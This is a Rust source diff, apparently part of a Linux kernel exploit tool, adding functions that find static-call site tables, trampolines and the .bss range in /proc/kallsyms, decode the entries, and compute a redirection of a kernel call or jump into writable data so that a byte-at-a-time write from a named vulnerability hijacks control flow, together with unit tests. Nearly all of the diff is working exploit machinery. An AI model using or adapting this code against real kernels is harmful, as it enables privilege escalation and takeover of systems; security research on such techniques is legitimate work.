@@ -248,12 +248,161 @@ pub fn kallsyms(text: &str, name: &str) -> Option<u64> {
     })
 }
 
+/// The linear range `[start, end)` between two symbols of
+/// `/proc/kallsyms` text.
+fn symbol_range(kallsyms_text: &str, start: &str, end: &str) -> Option<Range> {
+    let start = kallsyms(kallsyms_text, start)?;
+    let end = kallsyms(kallsyms_text, end)?;
+    (start < end).then_some(Range { start, end })
+}
+
 /// The linear range of the kernel's jump-label table
 /// (`__start___jump_table`..`__stop___jump_table`) in `/proc/kallsyms`.
 pub fn jump_table(kallsyms_text: &str) -> Option<Range> {
-    let start = kallsyms(kallsyms_text, "__start___jump_table")?;
-    let end = kallsyms(kallsyms_text, "__stop___jump_table")?;
-    (start < end).then_some(Range { start, end })
+    symbol_range(kallsyms_text, "__start___jump_table", "__stop___jump_table")
+}
+
+/// The linear range of the kernel's inline static-call sites table
+/// (`__start_static_call_sites`..`__stop_static_call_sites`, in
+/// ro-after-init data) in `/proc/kallsyms`.
+pub fn static_call_sites(kallsyms_text: &str) -> Option<Range> {
+    symbol_range(
+        kallsyms_text,
+        "__start_static_call_sites",
+        "__stop_static_call_sites",
+    )
+}
+
+/// The linear range of the kernel's static-call trampolines
+/// (`.static_call.text`: `__static_call_text_start`..
+/// `__static_call_text_end`, in text) in `/proc/kallsyms`.
+pub fn static_call_tramps(kallsyms_text: &str) -> Option<Range> {
+    symbol_range(
+        kallsyms_text,
+        "__static_call_text_start",
+        "__static_call_text_end",
+    )
+}
+
+/// One entry of `__static_call_sites` (`{s32 addr; s32 key;}`, each
+/// relative to its own field's address), decoded.
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+pub struct StaticCallSite {
+    /// The 5-byte site in text.
+    pub addr: u64,
+    /// The `struct static_call_key` (`__SCK__<name>`), flags cleared.
+    pub key: u64,
+    /// Key bit 0: a tail call (`jmp`), not a `call`.
+    pub tail: bool,
+    /// Key bit 1: the site lies in init text (freed after boot).
+    pub init: bool,
+}
+
+impl StaticCallSite {
+    /// Decodes the entry at `entry` from its first 8 bytes.
+    pub fn decode(entry: u64, bytes: &[u8]) -> Option<Self> {
+        let field = |i: usize| -> Option<i64> {
+            Some(i64::from(i32::from_le_bytes(
+                bytes.get(i..i + 4)?.try_into().ok()?,
+            )))
+        };
+        let addr = entry.wrapping_add_signed(field(0)?);
+        let key = (entry + 4).wrapping_add_signed(field(4)?);
+        Some(Self {
+            addr,
+            key: key & !3,
+            tail: key & 1 != 0,
+            init: key & 2 != 0,
+        })
+    }
+}
+
+/// The sites of the static call whose key is at `key`, at most `max`,
+/// decoded from the `__static_call_sites` table `table` with `read` (the
+/// 8 bytes at an address). The kernel sorts the table by key at boot
+/// (`static_call_sort_entries`) and stores a vmlinux key's first site in
+/// the key itself (`key->sites`, bit 0 set): `hint` is that entry,
+/// trusted only where it decodes to `key`; otherwise a binary search of
+/// the sorted table finds the first.
+pub fn static_call_sites_of(
+    table: Range,
+    key: u64,
+    hint: Option<u64>,
+    max: usize,
+    read: &mut dyn FnMut(u64) -> Option<[u8; 8]>,
+) -> Result<Vec<StaticCallSite>, String> {
+    let count = (table.end - table.start) / 8;
+    let mut entry = |i: u64| -> Result<StaticCallSite, String> {
+        let at = table.start + 8 * i;
+        read(at)
+            .and_then(|b| StaticCallSite::decode(at, &b))
+            .ok_or_else(|| format!("cannot read the static-call site entry at {at:#x}"))
+    };
+    let hinted = hint
+        .filter(|h| (table.start..table.end).contains(h) && (h - table.start).is_multiple_of(8))
+        .map(|h| (h - table.start) / 8);
+    let first = match hinted {
+        Some(i) if entry(i)?.key == key => i,
+        _ => {
+            let (mut lo, mut hi) = (0, count);
+            while lo < hi {
+                let mid = lo + (hi - lo) / 2;
+                if entry(mid)?.key < key {
+                    lo = mid + 1;
+                } else {
+                    hi = mid;
+                }
+            }
+            lo
+        }
+    };
+    let mut sites = Vec::new();
+    for i in first..count.min(first + max as u64) {
+        let s = entry(i)?;
+        if s.key != key {
+            break;
+        }
+        sites.push(s);
+    }
+    Ok(sites)
+}
+
+/// The first site a vmlinux static-call key names in its own 16 bytes
+/// (`{void *func; union {unsigned long type; struct static_call_site
+/// *sites; ...}}`: bit 0 of the second word set = a sites pointer).
+pub fn static_call_key_sites(key: &[u8]) -> Option<u64> {
+    let word = u64::from_le_bytes(key.get(8..16)?.try_into().ok()?);
+    (word & 1 != 0).then_some(word & !1)
+}
+
+/// The kernel's `.bss` (`__bss_start`..`__bss_stop`) in `/proc/kallsyms`:
+/// writable kernel data, more than 16 MiB of it in Debian's kernel.
+pub fn bss(kallsyms_text: &str) -> Option<Range> {
+    symbol_range(kallsyms_text, "__bss_start", "__bss_stop")
+}
+
+/// A redirection of the `call rel32` or `jmp rel32` (`e8`/`e9`) at `at`,
+/// whose first 8 bytes are `old`, into `data`: the 8 bytes to store and
+/// the new target. The target is the old one plus or minus a multiple of
+/// 16 MiB (the nearest that lies in `data`), so that only the rel32's top
+/// byte changes: a write made a byte at a time (the vulnerability's)
+/// passes through no other form than the final one. (Were the low bytes
+/// to change first, each intermediate form would be a branch somewhere
+/// into text.) `None`: not a call or jump, or no such target.
+pub fn redirect_rel32(at: u64, old: &[u8], data: Range) -> Option<(u64, u64)> {
+    let mut b: [u8; 8] = old.get(..8)?.try_into().ok()?;
+    if b[0] != 0xe8 && b[0] != 0xe9 {
+        return None;
+    }
+    let rel = i64::from(i32::from_le_bytes(b[1..5].try_into().ok()?));
+    let next = at.wrapping_add(5);
+    let (rel, target) = (1..=8i64)
+        .flat_map(|k| [k, -k])
+        .filter_map(|k| i32::try_from(rel + (k << 24)).ok())
+        .map(|r| (r, next.wrapping_add_signed(i64::from(r))))
+        .find(|&(_, t)| data.start <= t && t < data.end)?;
+    b[1..5].copy_from_slice(&rel.to_le_bytes());
+    Some((u64::from_le_bytes(b), target))
 }
 
 /// A gadget's answer `old O new N` (hex): the value before and the value
@@ -390,6 +539,172 @@ mod tests {
         assert_eq!(jump_table(hidden), None);
         assert_eq!(kallsyms("ffffffffc0001000 t foo [okernel]\n", "foo"), None);
         assert_eq!(jump_table(""), None);
+    }
+
+    #[test]
+    fn finds_the_static_call_tables_in_kallsyms() {
+        let k = "ffffffff82b3a1d8 D __start_static_call_sites\n\
+ffffffff82b4e4a0 D __stop_static_call_sites\n\
+ffffffff81e00000 T __static_call_text_start\n\
+ffffffff81e00520 T __static_call_text_end\n";
+        assert_eq!(
+            static_call_sites(k),
+            Some(Range {
+                start: 0xffff_ffff_82b3_a1d8,
+                end: 0xffff_ffff_82b4_e4a0
+            })
+        );
+        assert_eq!(
+            static_call_tramps(k),
+            Some(Range {
+                start: 0xffff_ffff_81e0_0000,
+                end: 0xffff_ffff_81e0_0520
+            })
+        );
+        assert_eq!(
+            static_call_sites(
+                "0000000000000000 D __start_static_call_sites\n0000000000000000 D __stop_static_call_sites\n"
+            ),
+            None
+        );
+        assert_eq!(static_call_tramps(""), None);
+    }
+
+    /// A `__static_call_sites` entry at `at` for `site` and `key` with
+    /// flag bits `flags`.
+    fn sc_entry(at: u64, site: u64, key: u64, flags: u64) -> [u8; 8] {
+        let a = site.wrapping_sub(at) as i32;
+        let k = (key | flags).wrapping_sub(at + 4) as i32;
+        let mut b = [0; 8];
+        b[..4].copy_from_slice(&a.to_le_bytes());
+        b[4..].copy_from_slice(&k.to_le_bytes());
+        b
+    }
+
+    #[test]
+    fn decodes_static_call_sites_and_finds_a_keys_sites() {
+        let start = 0xffff_ffff_82b3_a1d8u64;
+        let e = sc_entry(start, 0xffff_ffff_8100_1234, 0xffff_ffff_8260_0040, 1);
+        assert_eq!(
+            StaticCallSite::decode(start, &e),
+            Some(StaticCallSite {
+                addr: 0xffff_ffff_8100_1234,
+                key: 0xffff_ffff_8260_0040,
+                tail: true,
+                init: false
+            })
+        );
+        let init = sc_entry(start, 0xffff_ffff_8300_0000, 0xffff_ffff_8260_0040, 2);
+        assert!(StaticCallSite::decode(start, &init).unwrap().init);
+        assert_eq!(StaticCallSite::decode(start, &[0; 4]), None);
+        // A table sorted by key, as the kernel leaves it: keys 0x10,
+        // 0x20 (three sites), 0x30, at 0xffffffff82600000 + key.
+        let key = |k: u64| 0xffff_ffff_8260_0000 + k;
+        let keys = [0x10, 0x20, 0x20, 0x20, 0x30];
+        let table = Range {
+            start,
+            end: start + 8 * keys.len() as u64,
+        };
+        let mut reads = 0;
+        let mut read = |at: u64| {
+            reads += 1;
+            let i = usize::try_from((at - start) / 8).ok()?;
+            Some(sc_entry(
+                at,
+                0xffff_ffff_8100_0000 + i as u64 * 0x100,
+                key(*keys.get(i)?),
+                0,
+            ))
+        };
+        let found = static_call_sites_of(table, key(0x20), None, 8, &mut read).unwrap();
+        assert_eq!(
+            found.iter().map(|s| s.addr).collect::<Vec<_>>(),
+            [
+                0xffff_ffff_8100_0100,
+                0xffff_ffff_8100_0200,
+                0xffff_ffff_8100_0300
+            ]
+        );
+        // The key's own pointer is used where it decodes to the key, a
+        // wrong one is not (the search finds the first anyway).
+        let hinted = static_call_sites_of(table, key(0x20), Some(start + 8), 1, &mut read);
+        assert_eq!(hinted.unwrap()[0].addr, 0xffff_ffff_8100_0100);
+        let wrong = static_call_sites_of(table, key(0x20), Some(start + 32), 1, &mut read);
+        assert_eq!(wrong.unwrap()[0].addr, 0xffff_ffff_8100_0100);
+        assert_eq!(
+            static_call_sites_of(table, key(0x30), None, 8, &mut read)
+                .unwrap()
+                .len(),
+            1
+        );
+        assert!(
+            static_call_sites_of(table, key(0x28), None, 8, &mut read)
+                .unwrap()
+                .is_empty()
+        );
+        assert!(
+            static_call_sites_of(table, key(0x40), None, 8, &mut read)
+                .unwrap()
+                .is_empty()
+        );
+        assert!(static_call_sites_of(table, key(0x20), None, 8, &mut |_| None).is_err());
+        // The key: `func`, then the sites pointer with bit 0 set.
+        let mut k = [0u8; 16];
+        k[8..].copy_from_slice(&(start + 8 + 1).to_le_bytes());
+        assert_eq!(static_call_key_sites(&k), Some(start + 8));
+        k[8] &= !1;
+        assert_eq!(static_call_key_sites(&k), None, "a module list, not sites");
+    }
+
+    fn bss_range() -> Range {
+        Range {
+            start: 0xffff_ffff_8331_0000,
+            end: 0xffff_ffff_8440_0000,
+        }
+    }
+
+    #[test]
+    fn forms_rel32_redirections_and_reads_the_preemption_model() {
+        // A trampoline at 0xffffffff81e000e0 jumping to 0xffffffff812603e0;
+        // .bss from 0xffffffff83310000 to 0xffffffff84400000.
+        let at = 0xffff_ffff_81e0_00e0u64;
+        let tramp = [0xe9, 0xfb, 0x02, 0x46, 0xff, 0x0f, 0xb9, 0xcc];
+        let data = bss_range();
+        // + 48 MiB: only the rel32's top byte changes.
+        assert_eq!(
+            redirect_rel32(at, &tramp, data).map(|(v, t)| (v.to_le_bytes(), t)),
+            Some((
+                [0xe9, 0xfb, 0x02, 0x46, 0x02, 0x0f, 0xb9, 0xcc],
+                0xffff_ffff_8426_03e0
+            ))
+        );
+        // The nearest such target: -16 MiB where that lies in the range.
+        let below = Range {
+            start: 0xffff_ffff_8000_0000,
+            end: 0xffff_ffff_8100_0000,
+        };
+        assert_eq!(
+            redirect_rel32(at, &tramp, below).map(|(_, t)| t),
+            Some(0xffff_ffff_8026_03e0)
+        );
+        // A call keeps its opcode.
+        let call = [0xe8, 0x00, 0x01, 0x00, 0x00, 0x90, 0x90, 0x90];
+        assert_eq!(
+            redirect_rel32(0xffff_ffff_8100_0000, &call, data)
+                .map(|(v, _)| v.to_le_bytes()[..5].to_vec()),
+            Some(vec![0xe8, 0x00, 0x01, 0x00, 0x03])
+        );
+        // Not a call or jump; no target in reach; too short.
+        let ret = [0xc3, 0xcc, 0xcc, 0xcc, 0xcc, 0x0f, 0xb9, 0xcc];
+        assert_eq!(redirect_rel32(at, &ret, data), None);
+        let tiny = Range {
+            start: 0xffff_ffff_8400_0000,
+            end: 0xffff_ffff_8400_1000,
+        };
+        assert_eq!(redirect_rel32(at, &tramp, tiny), None);
+        assert_eq!(redirect_rel32(at, &tramp[..5], data), None);
+        let k = "ffffffff83310000 B __bss_start\nffffffff84400000 B __bss_stop\n";
+        assert_eq!(bss(k), Some(bss_range()));
     }
 
     #[test]
